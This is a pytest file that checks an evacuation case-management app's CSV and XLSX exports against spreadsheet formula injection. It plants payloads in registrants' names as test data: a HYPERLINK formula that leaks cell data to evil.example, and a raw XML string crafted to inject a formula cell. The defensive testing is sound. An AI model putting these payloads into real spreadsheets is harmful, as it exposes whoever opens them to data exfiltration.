"""No export lets a registrant's text run as a spreadsheet formula (OWASP CSV injection).

A name or phone that starts with = + - @, a tab or a carriage return is written
with a leading apostrophe, in every CSV and XLSX: the pages, the reports and
the command line. In XLSX it is a string cell, never a formula.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path
from unittest.mock import patch

import pytest
from fastapi.testclient import TestClient
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from sqlmodel import Session
from typer.testing import CliRunner

from evac import migrations, spreadsheet
from evac.cases.export import COLUMNS
from evac.cli.main import app as cli
from evac.db import get_engine
from evac.planning.service import commit_plan
from evac.spreadsheet import FORMULA_TRIGGERS, csv_lines, safe_cell, write_xlsx
from tests.factories import make_case, member, sign_in
from tests.planning_db.test_plan_commit import make_flight

pytestmark = pytest.mark.usefixtures("coordinator")

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
NEUTRALISED = "'" + FORMULA
GIVEN_NAME = COLUMNS.index("given_name") + 1


def _hostile_case(session: Session) -> str:
    """A household whose given name is a formula; returns its reference."""
    # No passport name can be suggested from a formula: the registrant types one.
    typed = {"passport_surname": "SUM", "passport_given_names": "HYPERLINK"}
    members = [
        member(FORMULA, "@SUM(1+1)", **typed),
        member("Lina", "-Haddad", nationality="SY", passport_surname="HADDAD"),
    ]
    case = make_case(session, "DE", members)
    return case.reference


def _seated_hostile_case(session: Session) -> int:
    """The hostile household seated on flight TK9; returns the flight's id."""
    _hostile_case(session)
    flight = make_flight(session, "TK9", 10)
    commit_plan(session, actor="planner", country="DE")
    return flight.id  # type: ignore[return-value]


def _csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _no_live_formula(rows: list[list[str]]) -> None:
    cells = [cell for row in rows for cell in row]
    assert NEUTRALISED in cells and "'@SUM(1+1)" in cells
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+90 532 000 00 00", "'+90 532 000 00 00"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Ayşe", "Ayşe"),
        ("", ""),
        (-5, -5),
        (-1.5, -1.5),
        (None, None),
    ],
)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe_and_numbers_stay_numbers(
    value: object, written: object
) -> None:
    assert safe_cell(value) == written


def test_a_negative_number_is_written_as_a_number_in_csv() -> None:
    assert _csv("".join(csv_lines(["n"], [[-3]]))) == [["n"], ["-3"]]


def test_the_case_list_csv_neutralises_formulas(client: TestClient, session: Session) -> None:
    _hostile_case(session)
    sign_in(client, "center")
    response = client.get("/staff/cases/export.csv")
    assert response.status_code == 200
    rows = _csv(response.text)
    _no_live_formula(rows)
    phone = rows[1][rows[0].index("phone")]
    assert phone.startswith("'+49")


@pytest.mark.parametrize("report", ["cases", "flights", "third-country-nationals"])
def test_every_report_csv_neutralises_formulas(
    client: TestClient, session: Session, report: str
) -> None:
    _seated_hostile_case(session)
    sign_in(client, "center")
    response = client.get(f"/staff/reports/{report}.csv")
    assert response.status_code == 200
    rows = _csv(response.text)
    if report == "cases":
        _no_live_formula(rows)
    else:
        cells = [cell for row in rows[1:] for cell in row]
        assert cells and not any(cell.startswith(("=", "+", "@")) for cell in cells)


def test_the_cases_workbook_holds_the_formula_as_text(client: TestClient, session: Session) -> None:
    _hostile_case(session)
    sign_in(client, "center")
    response = client.get("/staff/reports/cases.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    given = sheet.cell(row=2, column=GIVEN_NAME)
    assert given.value == NEUTRALISED and given.data_type == "s"
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


def test_the_flight_manifest_csv_neutralises_formulas(client: TestClient, session: Session) -> None:
    flight_id = _seated_hostile_case(session)
    sign_in(client, "center")
    response = client.get(f"/staff/manifests/{flight_id}/manifest.csv")
    assert response.status_code == 200
    _no_live_formula(_csv(response.text))


def test_command_line_exports_neutralise_formulas(fresh_database: str, tmp_path: Path) -> None:
    migrations.upgrade(get_engine())
    with Session(get_engine()) as session:
        _seated_hostile_case(session)
        session.commit()
    runner = CliRunner()
    cases = runner.invoke(cli, ["export", "cases"])
    manifests = runner.invoke(cli, ["export", "manifests", "--flight", "TK9"])
    workbook = tmp_path / "cases.xlsx"
    runner.invoke(cli, ["export", "cases", "--format", "xlsx", "--out", str(workbook)])
    assert cases.exit_code == 0 and manifests.exit_code == 0, cases.output + manifests.output
    _no_live_formula(_csv(cases.stdout))
    _no_live_formula(_csv(manifests.stdout))
    sheet = load_workbook(workbook).active
    assert sheet.cell(row=2, column=GIVEN_NAME).value == NEUTRALISED
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)


# Text that starts with a trigger, or is XlsxWriter's raw rich-string form, more often than chance.
RISKY_TEXT = st.builds(
    str.__add__,
    st.sampled_from(["", "", "=", "+", "-", "@", "\t", "\r", "'", "<r>", "a\n="]),
    st.text(st.characters(blacklist_categories=("Cs", "Cc")), max_size=8),
)
CELLS = st.one_of(RISKY_TEXT, st.integers(-(10**6), 10**6), st.none())
ROWS = st.lists(st.lists(CELLS, min_size=3, max_size=3), max_size=9)


@settings(max_examples=60, deadline=None)
@given(rows=ROWS)
def test_every_csv_cell_is_written_as_safe_cell_makes_it(rows: list[list[object]]) -> None:
    with patch.object(spreadsheet, "BATCH", 4):  # several batches in a few rows
        text = "".join(csv_lines(["a", "b", "c"], rows))
    written = list(csv.reader(io.StringIO(text, newline="")))
    expected = [["" if cell is None else str(safe_cell(cell)) for cell in row] for row in rows]
    assert written == [["a", "b", "c"], *expected]


@settings(max_examples=25, deadline=None)
@given(rows=ROWS)
def test_every_workbook_cell_is_text_or_a_number_never_a_formula(rows: list[list[object]]) -> None:
    with patch.object(spreadsheet, "BATCH", 4):
        path = write_xlsx("cells", ["a", "b", "c"], rows)
    try:
        sheet = load_workbook(path).active
        cells = [list(row) for row in sheet.iter_rows(min_row=2, max_col=3, max_row=len(rows) + 1)]
    finally:
        path.unlink()
    for typed, read in zip(rows, cells, strict=True):
        for value, cell in zip(typed, read, strict=True):
            if isinstance(value, int):
                assert (cell.value, cell.data_type) == (value, "n")
            elif value:
                assert cell.data_type == "s" and cell.value == _as_read_back(safe_cell(value))
                assert not cell.value.startswith(FORMULA_TRIGGERS)
            else:
                assert cell.value is None


def _as_read_back(text: object) -> object:
    """A text cell as openpyxl reads it back: the raw rich-string form neutralised
    too, and a carriage return as Excel's escape ``_x000D_`` (which Excel undoes)."""
    assert isinstance(text, str)
    if text.startswith("<r>") and text.endswith("</r>"):
        text = "'" + text
    return text.replace("\r", "_x000D_")


def test_text_in_xlsxwriters_raw_form_stays_text_in_the_workbook(tmp_path: Path) -> None:
    injected = '<r></r></is></c><c r="B9"><f>HYPERLINK("http://evil.example")</f></c><r></r>'
    path = write_xlsx("cells", ["name"], [[injected], ["<r><t>Ayşe</t></r>"]])
    sheet = load_workbook(path).active
    path.unlink()
    assert [cell.value for (cell,) in sheet.iter_rows(min_row=2)] == [
        "'" + injected,
        "'<r><t>Ayşe</t></r>",
    ]
    assert not any(cell.data_type == "f" for row in sheet.iter_rows() for cell in row)
